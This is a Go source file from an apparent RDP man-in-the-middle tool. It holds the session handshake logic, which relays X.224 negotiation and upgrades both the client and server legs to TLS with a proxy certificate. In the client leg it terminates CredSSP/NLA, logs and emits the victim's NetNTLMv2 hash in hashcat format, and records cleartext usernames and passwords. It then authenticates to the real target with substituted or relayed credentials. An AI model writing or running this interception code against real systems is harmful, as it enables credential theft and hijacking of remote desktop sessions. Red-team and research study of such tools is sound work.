package mitm

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"time"

	"github.com/rcarmo/go-rdp-mitm/internal/catalog"
	"github.com/rcarmo/go-rdp-mitm/internal/codec"
	"github.com/rcarmo/go-rdp-mitm/internal/event"
	"github.com/rcarmo/go-rdp-mitm/internal/leg"
	"github.com/rcarmo/go-rdp-mitm/internal/metrics"
	"github.com/rcarmo/go-rdp-mitm/internal/protocol/pdu"
	"github.com/rcarmo/go-rdp-mitm/internal/transport"
)

var errNoCredentials = errors.New("target requires NLA and no credentials are available")

// handshake runs the X.224 negotiation and the security upgrade of both legs.
// Every step is bounded by the negotiation timeout.
func (s *Session) handshake(ctx context.Context) error {
	timeout := s.cfg.negotiationTimeout()

	p, _, err := s.client.reader.nextWithin(timeout)
	if err != nil {
		return Classify(err, leg.RoleClient)
	}

	req, ok := p.(*codec.NegotiationRequest)
	if !ok {
		return newError(Reject, leg.RoleClient, "expected a connection request, got %s", codec.Name(p))
	}
	if err := s.client.leg.Received(req); err != nil {
		return Classify(err, leg.RoleClient)
	}
	if _, err := s.intercept(s.client, req); err != nil {
		return err
	}

	requested := req.Request.RequestedProtocols()

	upstream := &codec.NegotiationRequest{Request: req.Request}
	upstream.Request.NegotiationRequest = &pdu.NegotiationRequest{RequestedProtocols: s.cfg.Policy.ServerRequest()}
	if nr := req.Request.NegotiationRequest; nr != nil {
		upstream.Request.NegotiationRequest.Flags = nr.Flags
	}
	if err := s.forward(s.server, upstream); err != nil {
		return err
	}

	p, _, err = s.server.reader.nextWithin(timeout)
	if err != nil {
		return Classify(err, leg.RoleServer)
	}

	resp, ok := p.(*codec.NegotiationResponse)
	if !ok {
		return newError(Reject, leg.RoleServer, "expected a connection confirm, got %s", codec.Name(p))
	}
	if err := s.server.leg.Received(resp); err != nil {
		return Classify(err, leg.RoleServer)
	}
	if _, err := s.intercept(s.server, resp); err != nil {
		return err
	}

	if code := resp.Confirm.FailureCode(); code != 0 {
		failure := &codec.NegotiationResponse{Confirm: *pdu.NewNegotiationFailure(code)}
		if err := s.forward(s.client, failure); err != nil {
			s.log.Debugf("session %s: mirror negotiation failure: %v", s.id, err)
		}
		return newError(NegotiationFailed, leg.RoleServer, "target refused negotiation: %s", code)
	}

	serverSelected := resp.Confirm.SelectedProtocol()
	if !s.cfg.Policy.Accepts(serverSelected) {
		return newError(NegotiationFailed, leg.RoleServer, "target selected %s, requested %s", serverSelected, s.cfg.Policy.ServerRequest())
	}

	confirm := &codec.NegotiationResponse{}
	clientSelected := pdu.NegotiationProtocolRDP
	if req.Request.NegotiationRequest != nil {
		clientSelected = s.cfg.Policy.ClientSelection(requested)
		confirm.Confirm = *pdu.NewNegotiationResponse(resp.Confirm.Flags, clientSelected)
	}

	if (serverSelected.UsesTLS() || clientSelected.UsesTLS()) && s.cfg.Adapter == nil {
		return newError(NegotiationFailed, leg.RoleClient, "TLS selected without a proxy certificate")
	}

	if serverSelected.UsesTLS() {
		if err := s.upgradeServer(ctx, timeout); err != nil {
			return err
		}
	}

	if err := s.forward(s.client, confirm); err != nil {
		return err
	}

	if clientSelected.UsesTLS() {
		if err := s.upgradeClient(ctx, timeout, clientSelected.IsHybrid()); err != nil {
			return err
		}
	}

	if serverSelected.IsHybrid() {
		if err := s.authenticateServer(ctx, timeout); err != nil {
			return err
		}
	}

	s.std.requested = requested
	s.std.clientSelected = clientSelected
	s.std.serverSelected = serverSelected

	s.saveEntry(func(e *catalog.Entry) { e.Protocol = fmt.Sprintf("client=%s server=%s", clientSelected, serverSelected) })
	s.log.Debugf("session %s: client leg %s, server leg %s", s.id, clientSelected, serverSelected)

	return nil
}

func (s *Session) upgradeServer(ctx context.Context, timeout time.Duration) error {
	ctx, cancel := context.WithTimeout(ctx, timeout)
	defer cancel()

	conn, err := s.cfg.Adapter.UpgradeClient(ctx, s.server.raw, s.cfg.TargetName)
	if err != nil {
		return Classify(err, leg.RoleServer)
	}
	s.server.upgrade(conn)

	return nil
}

func (s *Session) upgradeClient(ctx context.Context, timeout time.Duration, hybrid bool) error {
	if n := s.client.reader.pending(); n > 0 {
		return newError(Malformed, leg.RoleClient, "%d bytes after the connection request", n)
	}

	ctx, cancel := context.WithTimeout(ctx, timeout)
	defer cancel()

	conn, err := s.cfg.Adapter.UpgradeServer(ctx, s.client.raw)
	if err != nil {
		return Classify(err, leg.RoleClient)
	}
	s.client.upgrade(conn)

	if hybrid {
		return s.authenticateClient(ctx, conn)
	}
	return nil
}

// authenticateClient terminates CredSSP. The NetNTLMv2 response is recorded
// before the logon is decided.
func (s *Session) authenticateClient(ctx context.Context, conn *tls.Conn) error {
	creds := s.cfg.Credentials
	server := &transport.NLAServer{
		Domain:   s.cfg.NLADomain,
		Computer: s.cfg.NLAComputer,
		Lookup:   transport.StaticPassword(creds.Username, creds.Password),
	}

	result, err := server.Accept(ctx, conn, s.cfg.Adapter)

	if result != nil && result.Hash != nil {
		metrics.CredentialsCaptured.WithLabelValues("ntlm").Inc()
		s.log.Infof("session %s: NetNTLMv2 hash captured for %s\\%s", s.id, result.Hash.Domain, result.Hash.User)

		hash := event.NTLMHash{Domain: result.Hash.Domain, Username: result.Hash.User, Hashcat: result.Hash.Hashcat()}
		if emitErr := s.emit(event.NewNTLMHash(s.id, hash)); emitErr != nil {
			return emitErr
		}
	}

	if err != nil {
		return Classify(err, leg.RoleClient)
	}

	tc := result.Credentials
	s.nlaCreds = tc
	metrics.CredentialsCaptured.WithLabelValues(event.SourceNLA).Inc()
	s.saveEntry(func(e *catalog.Entry) { e.Username = tc.User })

	return s.emit(event.NewCredentials(s.id, event.Credentials{
		Domain:   tc.Domain,
		Username: tc.User,
		Password: tc.Password,
		Source:   event.SourceNLA,
	}))
}

// authenticateServer runs CredSSP toward the target with the substituted
// credentials, or those the client delegated.
func (s *Session) authenticateServer(ctx context.Context, timeout time.Duration) error {
	var creds transport.Credentials

	switch {
	case s.cfg.Credentials.Configured():
		c := s.cfg.Credentials
		creds = transport.Credentials{Domain: c.Domain, Username: c.Username, Password: c.Password}
	case s.nlaCreds != nil:
		creds = transport.Credentials{Domain: s.nlaCreds.Domain, Username: s.nlaCreds.User, Password: s.nlaCreds.Password}
	default:
		return &SessionError{Kind: NegotiationFailed, Leg: leg.RoleServer, Err: errNoCredentials}
	}

	conn, ok := s.server.conn.(*tls.Conn)
	if !ok {
		return newError(NegotiationFailed, leg.RoleServer, "NLA without TLS")
	}

	ctx, cancel := context.WithTimeout(ctx, timeout)
	defer cancel()

	if err := transport.NLAClient(ctx, conn, creds); err != nil {
		return Classify(err, leg.RoleServer)
	}
	return nil
}
